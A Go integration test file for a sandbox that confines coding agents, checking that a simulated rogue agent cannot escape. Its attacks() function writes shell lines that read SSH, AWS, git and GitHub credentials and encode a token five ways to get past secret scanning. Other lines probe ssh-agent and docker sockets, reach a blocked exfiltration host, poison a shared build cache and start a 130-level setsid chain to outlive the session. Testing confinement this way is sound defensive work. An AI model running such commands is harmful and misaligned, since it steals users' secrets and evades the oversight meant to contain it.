package integration

import (
	"bufio"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/wo-runner/wo/internal/gittest"
)

// The ways out that Landlock alone left an agent, each tried after the
// honest fix by an agent that runs as wo's user: the user's secrets in
// HOME (and wo's own token from gh's config, hidden in five encodings),
// another task's document in the store, an ssh-agent's and docker's unix
// sockets, UDP to loopback, TCP to loopback 443 on IPv4 and IPv6, a cache
// entry planted for the next task's agent, a chain of 130 setsid levels,
// a file made executable. In the box none gets anywhere and the honest
// fix lands; with --agent-sandbox off the same agent gets out (so these
// tests can fail), and the fix gate still keeps every secret off the
// remote.

var (
	boxProbeOnce sync.Once
	boxProbeBin  string
	boxProbeErr  error
)

// boxProbe is the probe program (integration/boxprobe), built once.
func boxProbe(t *testing.T) string {
	t.Helper()
	boxProbeOnce.Do(func() {
		dir, err := os.MkdirTemp("", "wo-boxprobe-")
		if err != nil {
			boxProbeErr = err
			return
		}
		boxProbeBin = filepath.Join(dir, "boxprobe")
		if out, err := exec.Command("go", "build", "-o", boxProbeBin, "./boxprobe").CombinedOutput(); err != nil {
			boxProbeErr = fmt.Errorf("building the box probe: %v\n%s", err, out)
		}
	})
	if boxProbeErr != nil {
		t.Fatal(boxProbeErr)
	}
	return boxProbeBin
}

// counter is a listener that counts what reaches it.
type counter struct {
	conns, bytes atomic.Int64
}

func (c *counter) serve(t *testing.T, l net.Listener) {
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			c.conns.Add(1)
			go func() {
				defer conn.Close()
				conn.SetReadDeadline(time.Now().Add(5 * time.Second))
				n, _ := bufio.NewReader(conn).ReadString('\n')
				c.bytes.Add(int64(len(n)))
			}()
		}
	}()
}

func (c *counter) reached() bool { return c.conns.Load() > 0 || c.bytes.Load() > 0 }

// escapeWorld is what the attacks aim at.
type escapeWorld struct {
	f                  *fixture
	home, out, probe   string
	secrets            map[string]string // a file of HOME → the secret in it
	storeSecret        string
	ssh, docker, tcp   *counter
	tcp443             map[string]*counter // address → what reached it
	datagrams          atomic.Int64
	sshSock, dockerSoc string
	udp, tcpAddr       string
}

const escapeToken = "ghs_woEscapeTok3n0123456789abcdefABCD"

// blockedHost is a host no agent's proxy lets through.
const blockedHost = "exfiltrate.example.test"

func newEscapeWorld(t *testing.T, on443 bool) *escapeWorld {
	t.Helper()
	f := newFixture(t, 10)
	w := &escapeWorld{f: f, home: t.TempDir(), out: t.TempDir(), probe: boxProbe(t), ssh: &counter{}, docker: &counter{}, tcp: &counter{},
		tcp443: map[string]*counter{}, storeSecret: "store-secret-6c1e9a77"}
	// The user's HOME: gh's config holds the very token wo runs with.
	w.secrets = map[string]string{
		".config/gh/hosts.yml": "gho_" + "ghConfigTokenValue0123456789",
		".git-credentials":     "gitCredPassw0rdValue77",
		".netrc":               "netrcPasswordValue5150",
		".ssh/id_ed25519":      "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
		".aws/credentials":     "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzqAWSsecret",
		".config/gcloud/application_default_credentials.json": "1//0gCloudRefreshTokenValue-xyz",
	}
	contents := map[string]string{
		".config/gh/hosts.yml": "github.com:\n    oauth_token: " + escapeToken + "\n    user: alice\n",
		".git-credentials":     "https://alice:" + w.secrets[".git-credentials"] + "@git.example.com\n",
		".netrc":               "machine example.com login alice password " + w.secrets[".netrc"] + "\n",
		".ssh/id_ed25519":      "-----BEGIN OPENSSH PRIVATE KEY-----\n" + w.secrets[".ssh/id_ed25519"] + "\n-----END OPENSSH PRIVATE KEY-----\n",
		".aws/credentials":     "[default]\naws_secret_access_key = " + w.secrets[".aws/credentials"] + "\n",
		".config/gcloud/application_default_credentials.json": `{"refresh_token": "` + w.secrets[".config/gcloud/application_default_credentials.json"] + `", "type": "authorized_user"}`,
	}
	w.secrets[".config/gh/hosts.yml"] = escapeToken
	for rel, text := range contents {
		p := filepath.Join(w.home, rel)
		os.MkdirAll(filepath.Dir(p), 0o700)
		writeFile(t, p, text)
	}
	// Another task's document, with a secret in it, in the same store.
	other := f.task("task_other", gitProcedure(), func(doc map[string]any) { doc["x_secret"] = w.storeSecret })
	f.importTask(other)
	// An ssh-agent's socket where SSH_AUTH_SOCK points, and docker's.
	sockets := t.TempDir()
	w.sshSock, w.dockerSoc = filepath.Join(sockets, "agent.1234"), filepath.Join(sockets, "docker.sock")
	for path, c := range map[string]*counter{w.sshSock: w.ssh, w.dockerSoc: w.docker} {
		l, err := net.Listen("unix", path)
		if err != nil {
			t.Fatal(err)
		}
		c.serve(t, l)
	}
	// UDP to loopback.
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	go func() {
		buf := make([]byte, 512)
		for {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			w.datagrams.Add(1)
		}
	}()
	w.udp = udp.LocalAddr().String()
	// TCP to a loopback service on some port, and on 443 where this
	// machine lets a test listen there.
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	w.tcp.serve(t, l)
	w.tcpAddr = l.Addr().String()
	for _, addr := range []string{"127.0.0.1:443", "[::1]:443"} {
		if !on443 {
			break
		}
		if l, err := net.Listen("tcp", addr); err == nil {
			c := &counter{}
			c.serve(t, l)
			w.tcp443[addr] = c
		} else {
			t.Logf("no listener on %s (%v): that part is not tried here", addr, err)
		}
	}
	return w
}

// task imports a work order of the review loop for key, with a review
// comment to fix; fix_paths lets the fix add files under foundation/, so
// that what stops a secret in a new file is the gate's scan of secrets.
func (w *escapeWorld) task(t *testing.T, key, branch string) {
	t.Helper()
	w.f.importTask(w.f.task(key, loopProcedure(), func(doc map[string]any) {
		wo := doc["work_order"].(map[string]any)
		wo["inputs"].(map[string]any)["branch_name"] = branch
		wo["inputs"].(map[string]any)["worktree_name"] = strings.ReplaceAll(branch, "/", "-")
		wo["context"].(map[string]any)["fix_paths"] = "foundation/**"
	}))
	if r := w.f.wo(w.env(nil), "run", key, "--until-step", "5"); r.code != 0 {
		t.Fatal(r.stderr)
	}
	seedComments(t, w.f, key, []any{map[string]any{"id": 11, "author": "coderabbitai", "path": "foundation/new0.go", "line": 3, "body": "Name this constant."}})
}

// env is wo's environment in this world: the user's HOME, wo's token,
// the ssh-agent's socket, the folder the agent reports to.
func (w *escapeWorld) env(extra []string) []string {
	return append([]string{"HOME=" + w.home, "XDG_CACHE_HOME=" + filepath.Join(w.home, ".cache"), "GITHUB_TOKEN=" + escapeToken,
		"SSH_AUTH_SOCK=" + w.sshSock, "WO_AGENT_WRITABLE=" + w.out, "WO_AGENT_READABLE=" + filepath.Dir(w.probe)}, extra...)
}

// attacks is what the agent does after the honest fix; each attack that
// works leaves a file named after it in OUT.
func (w *escapeWorld) attacks() string {
	var b strings.Builder
	b.WriteString("set +e\n")
	for rel := range w.secrets {
		name := strings.ReplaceAll(rel, "/", "_")
		fmt.Fprintf(&b, "if cat %q > /dev/null 2>&1; then touch OUT/home%s; cat %q >> foundation/new0.go; cat %q > foundation/leak%s.txt; fi\n",
			filepath.Join(w.home, rel), name, filepath.Join(w.home, rel), filepath.Join(w.home, rel), name)
	}
	// wo's token from gh's config, hidden five ways.
	fmt.Fprintf(&b, `tok=$(sed -n 's/.*oauth_token: //p' %q 2>/dev/null)
if [ -n "$tok" ]; then
	touch OUT/gh-token
	{ echo "$tok" | rev; printf %%s "$tok" | od -An -tx1 | tr -d ' \n'; echo; printf %%s "$tok" | base64; printf 'x-access-token:%%s' "$tok" | base64; printf %%s "$tok" | sed 's/./&%%/g'; } >> foundation/new1.go
fi
`, filepath.Join(w.home, ".config/gh/hosts.yml"))
	// Another task's document in the store, and the store's mode.
	fmt.Fprintf(&b, "grep -a -o 'store-secret-[0-9a-f]*' %q >> foundation/new2.go 2>/dev/null && touch OUT/store-read\n", w.f.store)
	fmt.Fprintf(&b, "chmod 666 %q 2>/dev/null && touch OUT/store-chmod\n", w.f.store)
	// Unix sockets by path, UDP and TCP to loopback.
	fmt.Fprintf(&b, "PROBE unix %q && touch OUT/ssh-agent\n", w.sshSock)
	fmt.Fprintf(&b, "PROBE unix %q && touch OUT/docker\n", w.dockerSoc)
	fmt.Fprintf(&b, "PROBE udp %q\n", w.udp)
	fmt.Fprintf(&b, "PROBE tcp %q && touch OUT/tcp\n", w.tcpAddr)
	// A host through the box's proxy, which does not let it through.
	fmt.Fprintf(&b, "PROBE proxy %q && touch OUT/proxied\n", "http://"+blockedHost+"/")
	for addr := range w.tcp443 {
		fmt.Fprintf(&b, "PROBE tcp %q && touch OUT/tcp443\n", addr)
	}
	// A file made executable.
	b.WriteString("chmod +x foundation/new1.go\n")
	// A chain of 130 setsid levels; the deepest beats into OUT.
	b.WriteString(`cat > OUT/chain.sh <<'EOF'
if [ "$1" -gt 0 ]; then setsid /bin/sh "$0" $(($1 - 1)) </dev/null >/dev/null 2>&1 & exit 0; fi
touch "$(dirname "$0")/deepest"
while :; do echo . >> "$(dirname "$0")/beat"; sleep 0.1; done
EOF
/bin/sh OUT/chain.sh 130
for i in $(seq 50); do [ -e OUT/deepest ] && break; sleep 0.1; done
`)
	return strings.NewReplacer("OUT", w.out, "PROBE", w.probe).Replace(b.String())
}

// got is what the agent managed, by its own account and by the world's.
func (w *escapeWorld) got() []string {
	var out []string
	entries, _ := os.ReadDir(w.out)
	for _, e := range entries {
		switch n := e.Name(); {
		case strings.HasPrefix(n, "home"), n == "gh-token", n == "store-read", n == "store-chmod", n == "ssh-agent", n == "docker", n == "tcp", n == "tcp443", n == "proxied", n == "poisoned":
			out = append(out, n)
		}
	}
	for name, c := range map[string]*counter{"the ssh-agent's socket": w.ssh, "docker's socket": w.docker, "a loopback TCP service": w.tcp} {
		if c.reached() {
			out = append(out, name+" reached")
		}
	}
	for addr, c := range w.tcp443 {
		if c.reached() {
			out = append(out, addr+" reached")
		}
	}
	if w.datagrams.Load() > 0 {
		out = append(out, "a datagram to loopback")
	}
	slices.Sort(out)
	return out
}

// onRemote lists which of the world's secrets are anywhere in the
// remote's objects, in any form the attacks wrote them.
func (w *escapeWorld) onRemote(t *testing.T) []string {
	t.Helper()
	objects := gittest.Output(t, gittest.Command(w.f.origin, "cat-file", "--batch-all-objects", "--batch"))
	rev := []rune(escapeToken)
	slices.Reverse(rev)
	forms := map[string]string{"wo's token": escapeToken, "wo's token reversed": string(rev), "wo's token in hex": hex.EncodeToString([]byte(escapeToken)),
		"wo's token in base64":      base64.StdEncoding.EncodeToString([]byte(escapeToken))[:40],
		"wo's token as credentials": base64.StdEncoding.EncodeToString([]byte("x-access-token:" + escapeToken))[:40],
		"another task's document":   w.storeSecret}
	for rel, v := range w.secrets {
		forms[rel] = v
	}
	var out []string
	for name, form := range forms {
		if strings.Contains(objects, form) {
			out = append(out, name)
		}
	}
	slices.Sort(out)
	return out
}

// cacheAttack plants a file in the task's Go build cache, where the next
// task's agent would find it; cacheCheck is that next agent's look.
const (
	cacheAttack = `echo planted > "$GOCACHE/poison"` + "\n"
	cacheCheck  = `if [ -e "$GOCACHE/poison" ]; then touch OUT/poisoned; fi` + "\n"
)

func TestAnAgentInItsBoxGetsOutNowhere(t *testing.T) {
	t.Parallel()
	needBox(t)
	w := newEscapeWorld(t, true)
	w.task(t, "task_esc_a", "review/01-escape-a")
	agent := filepath.Join(t.TempDir(), "agent-a.sh")
	writeAgent(t, agent, w.attacks()+cacheAttack)
	storeMode := fileMode(t, w.f.store)
	r := w.f.wo(w.env([]string{"WO_AGENT=" + agent}), "run", "task_esc_a")
	if r.code != 0 {
		t.Fatalf("exit %d:\n%s", r.code, r.stderr)
	}
	if strings.Contains(r.stderr, "no box of its own") || strings.Contains(r.stderr, "runs unconfined") {
		t.Errorf("wo says the agent had no box:\n%s", r.stderr)
	}
	// The honest part landed.
	if got := gittest.Run(t, w.f.origin, "show", "review/01-escape-a:foundation/new0.go"); !strings.Contains(got, "const Named = 1") {
		t.Errorf("the fix is not on the remote:\n%s", got)
	}
	// None of the attacks got anywhere.
	if got := w.got(); len(got) != 0 {
		t.Errorf("the agent got out: %v", got)
	}
	if got := w.onRemote(t); len(got) != 0 {
		t.Errorf("on the remote: %v", got)
	}
	if now := fileMode(t, w.f.store); now != storeMode {
		t.Errorf("the store's mode changed from %v to %v", storeMode, now)
	}
	if mode := gittest.Run(t, w.f.origin, "ls-tree", "review/01-escape-a", "foundation/new1.go"); !strings.HasPrefix(mode, "100644") {
		t.Errorf("the file the agent made executable is on the remote as %s", mode)
	}
	if !strings.Contains(r.stderr, "the fix made foundation/new1.go executable: committed without the executable bit") {
		t.Errorf("wo does not say it kept the file's mode:\n%s", r.stderr)
	}
	// Its refused connection is told, with the flag that allows it.
	if want := "--agent-allow-host " + blockedHost + ":80"; !strings.Contains(r.stderr, "the agent's proxy refused connections to "+blockedHost+":80") || !strings.Contains(r.stderr, want) {
		t.Errorf("the proxy's refusal is not told with %s:\n%s", want, r.stderr)
	}
	if log := w.f.wo(w.env(nil), "log", "task_esc_a", "--json").stdout; !strings.Contains(log, "agent_connection_refused") {
		t.Errorf("the refusal is not in the task's log:\n%s", log)
	}
	// Nothing of it is alive, at any depth, and nothing beats on.
	if _, err := os.Stat(filepath.Join(w.out, "deepest")); err != nil {
		t.Fatal("the agent's setsid chain never reached its depth")
	}
	if left := w.f.agentProcesses(); len(left) != 0 {
		t.Errorf("%d process(es) of the agent outlived wo: %v", len(left), left)
	}
	before := readFileOr(filepath.Join(w.out, "beat"))
	time.Sleep(300 * time.Millisecond)
	if after := readFileOr(filepath.Join(w.out, "beat")); after != before {
		t.Error("something the agent started still writes after wo exited")
	}
	// The next task's agent does not find what this one planted.
	w.task(t, "task_esc_b", "review/02-escape-b")
	next := filepath.Join(t.TempDir(), "agent-b.sh")
	writeAgent(t, next, strings.ReplaceAll(cacheCheck, "OUT", w.out))
	if r := w.f.wo(w.env([]string{"WO_AGENT=" + next}), "run", "task_esc_b"); r.code != 0 {
		t.Fatalf("the second task: exit %d:\n%s", r.code, r.stderr)
	}
	if _, err := os.Stat(filepath.Join(w.out, "poisoned")); err == nil {
		t.Error("the second task's agent found what the first planted in its cache")
	}
	if _, err := os.Stat(filepath.Join(w.home, ".cache", "wo", "agent", "tasks")); err == nil {
		if left, _ := filepath.Glob(filepath.Join(w.home, ".cache", "wo", "agent", "tasks", "task_esc_a-*")); len(left) != 0 {
			t.Errorf("the first task's caches outlived its worktree: %v", left)
		}
	}
}

// The same agent without its box gets out each way the box closes; the
// fix gate still refuses to push what it found.
func TestWithoutItsBoxTheSameAgentGetsOut(t *testing.T) {
	t.Parallel()
	w := newEscapeWorld(t, false)
	w.task(t, "task_esc_off", "review/01-escape-off")
	agent := filepath.Join(t.TempDir(), "agent.sh")
	writeAgent(t, agent, w.attacks())
	t.Cleanup(func() {
		for _, p := range w.f.agentProcesses() {
			syscall.Kill(p, syscall.SIGKILL)
		}
	})
	r := w.f.wo(w.env([]string{"WO_AGENT=" + agent, "WO_AGENT_SANDBOX=off"}), "run", "task_esc_off")
	if r.code != 1 || !strings.Contains(r.stderr, "it adds a secret") {
		t.Errorf("exit %d, want 1 with the fix refused for its secrets:\n%s", r.code, r.stderr)
	}
	got := w.got()
	for _, want := range []string{"docker", "docker's socket reached", "gh-token", "a datagram to loopback", "ssh-agent", "store-read", "tcp",
		"home.aws_credentials", "home.config_gh_hosts.yml", "home.git-credentials", "home.netrc", "home.ssh_id_ed25519"} {
		if !slices.Contains(got, want) {
			t.Errorf("unconfined, the agent still did not manage %q (got %v): the attack does not work", want, got)
		}
	}
	if got := w.onRemote(t); len(got) != 0 {
		t.Errorf("on the remote: %v", got)
	}
}

func fileMode(t *testing.T, path string) os.FileMode {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Mode()
}
